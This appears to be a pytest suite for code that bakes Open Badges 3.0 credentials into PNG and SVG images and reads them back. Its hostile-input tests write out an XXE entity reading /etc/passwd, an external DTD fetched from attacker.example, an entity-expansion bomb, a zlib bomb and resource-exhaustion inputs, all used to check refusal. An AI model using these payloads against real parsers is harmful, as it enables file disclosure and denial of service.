"""Baked badges: what comes out is byte for byte what went in, and no image can hurt the one who reads it."""

from __future__ import annotations

import base64
import io
import json
import struct
import time
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from tests.unit.credential.award_cast import signed_award
from tests.unit.credential.others import vector

from guildmark.core.codecs import jcs
from guildmark.core.errors import BrokenInput
from guildmark.credential.bake import KEYWORD, MAX_CREDENTIAL, MAX_IMAGE, NAMESPACE, bake, extract, media_type

CREDENTIAL = b'{"id": "urn:uuid:1", "name": "Zo\xc3\xab"}\n'
JWS = b"eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJ4In0.c2lnbmF0dXJl"


def _png():
    stream = io.BytesIO()
    Image.new("RGB", (4, 3), (31, 78, 95)).save(stream, "PNG")
    return stream.getvalue()


PNG = _png()
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 3"><title>A badge</title><path d="M0 0h4"/></svg>'


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def chunks(image):
    found, at = [], 8
    while at < len(image):
        (length,) = struct.unpack_from(">I", image, at)
        found.append((image[at + 4 : at + 8], image[at + 8 : at + 8 + length]))
        at += 12 + length
    return found


def with_chunk(kind, data):
    """The PNG with one more chunk after its header."""
    return PNG[:33] + chunk(kind, data) + PNG[33:]


def itxt(text, *, compressed=0, keyword=KEYWORD, rest=b"\0\0"):
    return keyword + b"\0" + bytes([compressed, 0]) + rest + text


# --- There and back -------------------------------------------------------------------------------------


def test_a_whole_award_comes_back_byte_for_byte():
    for credential in (jcs(signed_award()), json.dumps(signed_award(), indent=2).encode()):
        for image in (PNG, SVG):
            assert extract(bake(image, credential)) == credential


@pytest.mark.parametrize("image", [PNG, SVG], ids=["png", "svg"])
@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1, max_size=60))
def test_any_text_comes_back_byte_for_byte_or_the_image_is_not_made(image, text):
    # XML has no place for control characters and two others; a PNG takes them all.
    unfit = any(ord(c) < 32 and c not in "\t\n\r" for c in text) or "\ufffe" in text or "\uffff" in text
    if not text.strip() or (image == SVG and unfit):
        with pytest.raises(BrokenInput):
            bake(image, text.encode())
    else:
        assert extract(bake(image, text.encode())) == text.encode()


@pytest.mark.parametrize(
    "credential", [b"{}]]>{}", b"a\r\nb\rc", b"<a>&amp;</a>", b"\xef\xbb\xbf{}", b" {} ", b"a.b.c ", JWS]
)
@pytest.mark.parametrize("image", [PNG, SVG], ids=["png", "svg"])
def test_what_xml_or_a_reader_might_change_comes_back_unchanged(image, credential):
    assert extract(bake(image, credential)) == credential


def test_the_same_input_gives_the_same_bytes():
    assert bake(PNG, CREDENTIAL) == bake(PNG, CREDENTIAL)
    assert bake(SVG, CREDENTIAL) == bake(SVG, CREDENTIAL)


# --- PNG as Open Badges 3.0 writes it -------------------------------------------------------------------


def test_a_png_holds_the_credential_as_uncompressed_text_of_one_itxt_chunk():
    found = chunks(bake(PNG, CREDENTIAL))
    assert [data for kind, data in found if kind == b"iTXt"] == [b"openbadgecredential\0\0\0\0\0" + CREDENTIAL]
    assert [pair for pair in found if pair[0] != b"iTXt"] == chunks(PNG)


def test_another_reader_of_pngs_sees_the_same_picture_and_the_same_text():
    with Image.open(io.BytesIO(bake(PNG, CREDENTIAL))) as baked, Image.open(io.BytesIO(PNG)) as plain:
        assert baked.text["openbadgecredential"].encode() == CREDENTIAL
        assert baked.tobytes() == plain.tobytes()


def test_what_stands_in_the_language_and_the_translated_keyword_is_not_the_credential():
    image = with_chunk(b"iTXt", itxt(CREDENTIAL, rest=b"en\0Credential\0"))
    assert extract(image) == CREDENTIAL


def test_the_sample_of_1edtech_gives_its_credential():
    (row,) = [row for row in vector("1edtech-validator/baked.json") if row["name"] == "simple-json.png"]
    found = json.loads(extract(base64.b64decode(row["base64"])))
    assert found["type"][0] == "VerifiableCredential"
    assert "proof" in found


# --- SVG as Open Badges 3.0 writes it -------------------------------------------------------------------


def test_an_svg_holds_json_in_cdata_directly_after_its_opening_tag():
    baked = bake(SVG, CREDENTIAL)
    start = baked.index(b">") + 1
    element = b"<openbadges:credential><![CDATA[" + CREDENTIAL + b"]]></openbadges:credential>"
    assert baked[start:].startswith(element)
    assert f'xmlns:openbadges="{NAMESPACE}"'.encode() in baked[:start]
    assert baked.replace(element, b"").replace(f' xmlns:openbadges="{NAMESPACE}"'.encode(), b"") == SVG


def test_an_svg_holds_a_jws_in_the_attribute_verify():
    assert b'<openbadges:credential verify="' + JWS + b'"/>' in bake(SVG, JWS)


def test_the_sample_of_1edtech_with_a_jws_gives_it():
    (row,) = [row for row in vector("1edtech-validator/baked.json") if row["name"] == "simple-jwt.svg"]
    found = extract(base64.b64decode(row["base64"]))
    assert found.count(b".") == 2
    assert found.startswith(b"eyJ")


@pytest.mark.parametrize(
    "image",
    [
        SVG.replace(b"<svg ", b"\n<!-- a > comment -->\n<svg "),
        b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' + SVG,
        b"\xef\xbb\xbf" + SVG,
        SVG.replace(b"<svg ", b'<svg data-x="a > b" '),
        SVG.replace(b"<svg ", b"<svg\n\tdata-y='\"'\n"),
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
        SVG.replace(b"<svg ", f'<svg xmlns:openbadges="{NAMESPACE}" '.encode()),
        SVG.replace(b"<path", b"<svg/><path"),
    ],
)
def test_an_svg_of_another_hand_is_baked_too(image):
    baked = bake(image, CREDENTIAL)
    assert extract(baked) == CREDENTIAL
    assert bake(baked, JWS, overwrite=True) == bake(image, JWS)


def test_a_namespace_that_is_bound_to_something_else_is_not_half_used():
    image = SVG.replace(b"<svg ", b'<svg xmlns:openbadges="http://openbadges.org" ')
    with pytest.raises(BrokenInput, match=r"would not come out of this SVG unchanged; use a PNG"):
        bake(image, CREDENTIAL)


# --- Twice ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("image", [PNG, SVG], ids=["png", "svg"])
def test_a_baked_badge_is_baked_again_only_when_told_so(image):
    baked = bake(image, CREDENTIAL)
    with pytest.raises(BrokenInput, match="already carries a credential; take the clean image, or overwrite it"):
        bake(baked, JWS)
    assert bake(baked, JWS, overwrite=True) == bake(image, JWS)
    assert extract(bake(baked, JWS, overwrite=True)) == JWS


def test_a_png_with_two_credentials_is_refused():
    image = with_chunk(b"iTXt", itxt(b"{}"))
    image = image[:33] + chunk(b"iTXt", itxt(CREDENTIAL)) + image[33:]
    with pytest.raises(BrokenInput, match="carries more than one credential; ask the issuer"):
        extract(image)
    assert extract(bake(image, JWS, overwrite=True)) == JWS


@pytest.mark.parametrize(
    "inside",
    [
        b"<openbadges:credential verify='a.b.c'/><openbadges:credential verify='d.e.f'/>",
        b"<g><openbadges:credential verify='a.b.c'/></g><openbadges:credential>{}</openbadges:credential>",
        b"<openbadges:credential>{}<openbadges:credential verify='a.b.c'/></openbadges:credential>",
        b"<g/>".join([b"<openbadges:credential>{}</openbadges:credential>"] * 3),
    ],
)
def test_an_svg_with_two_credentials_is_refused(inside):
    image = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{NAMESPACE}">'.encode() + inside + b"</svg>"
    with pytest.raises(BrokenInput, match="carries more than one credential"):
        extract(image)
    assert extract(bake(image, JWS, overwrite=True)) == JWS


# --- Nothing to read ------------------------------------------------------------------------------------


@pytest.mark.parametrize("image", [PNG, SVG], ids=["png", "svg"])
def test_an_image_without_a_credential_says_so(image):
    with pytest.raises(BrokenInput, match="carries no credential; choose the badge file that the issuer sent"):
        extract(image)


OLD_SVG = '<a:assertion xmlns:a="http://openbadges.org"{}<path'


@pytest.mark.parametrize(
    ("image", "inside"),
    [
        (with_chunk(b"iTXt", itxt(b"{}", keyword=b"openbadges")), b"{}"),
        (with_chunk(b"tEXt", b"openbadges\0{}"), b"{}"),
        (SVG.replace(b"<path", OLD_SVG.format("><![CDATA[{}]]></a:assertion>").encode()), b"{}"),
        (SVG.replace(b"<path", OLD_SVG.format(f' verify="{JWS.decode()}"/>').encode()), JWS),
    ],
)
def test_a_badge_of_version_2_is_taken_out_where_there_is_none_of_version_3(image, inside):
    assert extract(image) == inside
    assert extract(bake(image, CREDENTIAL)) == CREDENTIAL


@pytest.mark.parametrize("kind", [b"iTXt", b"tEXt"])
def test_two_badges_of_version_2_are_refused(kind):
    data = itxt(b"{}", keyword=b"openbadges") if kind == b"iTXt" else b"openbadges\0{}"
    with pytest.raises(BrokenInput, match="carries more than one credential"):
        extract(PNG[:33] + chunk(kind, data) * 2 + PNG[33:])


@pytest.mark.parametrize(
    "image", [b"", b"GIF89a", b"\xff\xd8\xff\xe0", b"{}", b"%PDF-1.7", b"<html></html>", b"\x89PNG\r\n\x1a", b"<?xml?>"]
)
def test_another_kind_of_file_is_told_as_such(image):
    assert media_type(image) == ""
    with pytest.raises(BrokenInput, match="is neither a PNG nor an SVG image"):
        extract(image)
    with pytest.raises(BrokenInput, match="is neither a PNG nor an SVG image"):
        bake(image, CREDENTIAL)


def test_the_kind_of_an_image_is_told_by_its_beginning():
    assert (media_type(PNG), media_type(SVG)) == ("image/png", "image/svg+xml")
    assert media_type(b"\xef\xbb\xbf\n<?xml version='1.0'?>\n" + SVG) == "image/svg+xml"


@pytest.mark.parametrize("credential", [b"", b"  \n", b"\xff\xfe", b"{}\0", b"\xed\xa0\x80"])
@pytest.mark.parametrize("image", [PNG, SVG], ids=["png", "svg"])
def test_what_is_no_text_is_not_baked(image, credential):
    with pytest.raises(BrokenInput, match=r"^credential: is (not UTF-8 text|empty or has a NUL character); bake"):
        bake(image, credential)


# --- Malformed and hostile ------------------------------------------------------------------------------


def test_a_png_cut_off_anywhere_is_one_sentence():
    baked = bake(PNG, CREDENTIAL)
    for end in range(8, len(baked)):
        with pytest.raises(BrokenInput, match=r"^image: (ends in the middle of a chunk|has no end chunk); copy"):
            extract(baked[:end])


def test_a_png_with_any_one_byte_changed_never_gives_another_credential():
    baked = bake(PNG, CREDENTIAL)
    for at in range(len(baked)):
        other = baked[:at] + bytes([baked[at] ^ 0x20]) + baked[at + 1 :]
        with pytest.raises(BrokenInput):
            extract(other)


@pytest.mark.parametrize(
    ("image", "says"),
    [
        (PNG[:8] + PNG[33:], "does not begin with an image header"),
        (PNG[:8], "has no end chunk"),
        (PNG[:8] + b"\xff\xff\xff\xffIHDR" + bytes(20), "ends in the middle of a chunk"),
        (with_chunk(b"iTXt", itxt(zlib.compress(b"{}"), compressed=1)), "is compressed, which Open Badges 3.0 forbids"),
        (with_chunk(b"iTXt", KEYWORD + b"\0"), "is not in an iTXt chunk"),
        (with_chunk(b"iTXt", KEYWORD + b"\0\0\0\0"), "is not in an iTXt chunk"),
        (with_chunk(b"iTXt", KEYWORD + b"\0\0\0en\0no end"), "chunk is malformed"),
        (with_chunk(b"tEXt", KEYWORD + b"\0" + CREDENTIAL), "is not in an iTXt chunk"),
        (with_chunk(b"zTXt", KEYWORD + b"\0\0" + zlib.compress(CREDENTIAL)), "is not in an iTXt chunk"),
        (with_chunk(b"iTXt", itxt(b"")), "is empty or has a NUL character"),
        (with_chunk(b"iTXt", itxt(b"\xff")), "is not UTF-8 text"),
    ],
)
def test_a_malformed_png_says_what_is_wrong(image, says):
    with pytest.raises(BrokenInput) as refused:
        extract(image)
    assert says in str(refused.value)
    assert "\n" not in str(refused.value)


def test_a_compressed_text_is_refused_without_unpacking_it():
    bomb = zlib.compress(bytes(200_000_000), 9)
    start = time.perf_counter()
    with pytest.raises(BrokenInput, match=r"compressed, which Open Badges 3\.0 forbids"):
        extract(with_chunk(b"iTXt", itxt(bomb, compressed=1)))
    assert time.perf_counter() - start < 1


def test_bytes_after_the_end_of_a_png_are_not_read_and_not_kept():
    hidden = chunk(b"iTXt", itxt(b'{"other": 1}'))
    assert extract(bake(PNG, CREDENTIAL) + hidden) == CREDENTIAL
    assert bake(PNG + hidden, CREDENTIAL) == bake(PNG, CREDENTIAL)


BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (b"bcdefghi"[n], b"&%c;" % b"abcdefgh"[n] * 10) for n in range(8))
    + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&i;</text></svg>'
)


@pytest.mark.parametrize(
    "image",
    [
        BOMB,
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % x SYSTEM "https://attacker.example/x.dtd"> %x;]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    ],
    ids=["bomb", "file", "parameter"],
)
def test_an_svg_that_declares_an_entity_is_refused(image):
    for read in (extract, lambda it: bake(it, CREDENTIAL)):
        with pytest.raises(BrokenInput, match="declares an entity, which is not read; save it without one"):
            read(image)


@pytest.mark.parametrize(
    "image",
    [
        b"<svg",
        b"<svg>",
        SVG[:-6],
        SVG + b"<svg/>",
        SVG.replace(b"</title>", b"</titel>"),
        SVG.replace(b"A badge", b"A \xff badge"),
        b'<?xml version="1.0" encoding="no-such"?>' + SVG,
        b"<svg>&nbsp;</svg>",
        b"<svg>" + b"<g>" * 100,
        b"<svg a='1' a='2'/>",
    ],
)
def test_a_malformed_svg_is_one_sentence(image):
    for read in (extract, lambda it: bake(it, CREDENTIAL)):
        with pytest.raises(BrokenInput, match=r"^image: is not well-formed SVG") as refused:
            read(image)
        assert "\n" not in str(refused.value)


@pytest.mark.parametrize(
    ("image", "says"),
    [
        (b"<!-- <svg --><html/>", "its outermost element is not <svg>"),
        (b'<?xml version="1.0"?><s:svg xmlns:s="http://www.w3.org/2000/svg"><svg/></s:svg>', "has a prefix"),
    ],
)
def test_an_svg_that_cannot_be_written_into_says_so(image, says):
    with pytest.raises(BrokenInput) as refused:
        bake(image, CREDENTIAL)
    assert says in str(refused.value)


def test_an_svg_that_nests_without_end_is_no_crash():
    deep = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 100_000 + b"</g>" * 100_000 + b"</svg>"
    with pytest.raises(BrokenInput):
        extract(deep)


def test_images_and_credentials_have_a_largest_size():
    for image in (PNG + bytes(MAX_IMAGE), SVG + b" " * MAX_IMAGE):
        for read in (extract, lambda it: bake(it, CREDENTIAL)):
            with pytest.raises(BrokenInput, match="is larger than 10,000,000 bytes"):
                read(image)
    with pytest.raises(BrokenInput, match="is larger than 2,000,000 bytes"):
        bake(PNG, b"x" * (MAX_CREDENTIAL + 1))
    with pytest.raises(BrokenInput, match="the credential is larger than 2,000,000 bytes"):
        extract(with_chunk(b"iTXt", itxt(b"x" * (MAX_CREDENTIAL + 1))))


@given(
    st.binary(max_size=80),
    st.sampled_from([b"", b"\x89PNG\r\n\x1a\n", PNG[:33], b"<svg", b"<svg>", b"<?xml version='1.0'?><svg>"]),
)
def test_whatever_an_image_holds_is_a_credential_or_one_sentence(noise, start):
    with pytest.raises(BrokenInput) as refused:
        extract(start + noise)
    assert "\n" not in str(refused.value)


MARKUP = b'<svg xmlns="http://www.w3.org/2000/svg">'
DEFAULTS = (
    b"<!DOCTYPE svg [<!ATTLIST g "
    + b" ".join(b"a%d CDATA 'xxxxxxxx'" % n for n in range(2000))
    + b">]>"
    + MARKUP
    + b"<g/>" * 2000
    + b"</svg>"
)
HOSTILE = {
    "defaults": (b'<?xml version="1.0"?>' + DEFAULTS, "declares attributes, which is not read"),
    "elements": (MARKUP + b"<g/>" * 2_400_000 + b"</svg>", "has more than 50,000 elements and attributes"),
    "names": (MARKUP + b"".join(b"<a%d/>" % n for n in range(900_000)) + b"</svg>", "more than 50,000 elements"),
    "attributes": (b"<svg " + b" ".join(b"a%d=''" % n for n in range(800_000)) + b"/>", "more than 50,000 elements"),
    "chunks": (PNG[:33] + chunk(b"tEXt", b"") * 800_000, "has more than 20,000 chunks"),
    "unclosed": (MARKUP + b"<g a='" + b"x" * 9_000_000, "is not well-formed SVG"),
    "inside one another": (
        f'<svg xmlns:o="{NAMESPACE}">'.encode() + b"<o:credential>" * 24_000 + b"</o:credential>" * 24_000 + b"</svg>",
        "carries more than 20 credentials",
    ),
    "as much as is read": (MARKUP + b"<g/>" * 49_000 + b"</svg>", "carries no credential"),
    "as many chunks as are read": (PNG[:33] + chunk(b"tEXt", b"") * 19_000 + chunk(b"IEND", b""), "no credential"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_an_image_that_is_made_to_take_long_takes_no_time(name):
    image, says = HOSTILE[name]
    start = time.process_time()
    with pytest.raises(BrokenInput, match=says):
        extract(image)
    assert time.process_time() - start < 0.1  # 50 ms, on a machine that does other things too


def test_dimensions_are_not_looked_at():
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 16, 6, 0, 0, 0))
    image = PNG[:8] + header + PNG[33:]
    assert extract(bake(image, CREDENTIAL)) == CREDENTIAL


def test_baking_a_png_costs_no_thousandth_of_writing_it_anew():
    """The function to time is `bake(png, credential)`; here only that it is no re-encoding: linear and by copying."""
    image = PNG[:33] + chunk(b"IDAT", bytes(400_000)) + chunk(b"IEND", b"")
    bake(image, CREDENTIAL)
    start = time.process_time()
    for _ in range(20):
        bake(image, CREDENTIAL)
    assert (time.process_time() - start) / 20 < 0.005


def test_an_entity_that_another_file_would_declare_is_not_left_out():
    image = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd">' + MARKUP.replace(b">", b" xmlns:o='%s'>")
    image = image % NAMESPACE.encode() + b"<o:credential>a&nbsp;b</o:credential></svg>"
    with pytest.raises(BrokenInput, match="declares an entity, which is not read"):
        extract(image)


def test_an_image_that_is_baked_again_and_again_is_each_time_the_right_one():
    other = with_chunk(b"tEXt", b"Title\0Another")
    baked = bake(PNG, JWS)
    for image in (PNG, other, PNG, PNG, other, baked, PNG):
        for credential in (CREDENTIAL, JWS):
            made = bake(image, credential, overwrite=image is baked)
            assert extract(made) == credential
            assert (b"Another" in made) is (image is other)
    with pytest.raises(BrokenInput, match="already carries"):
        bake(baked, CREDENTIAL)
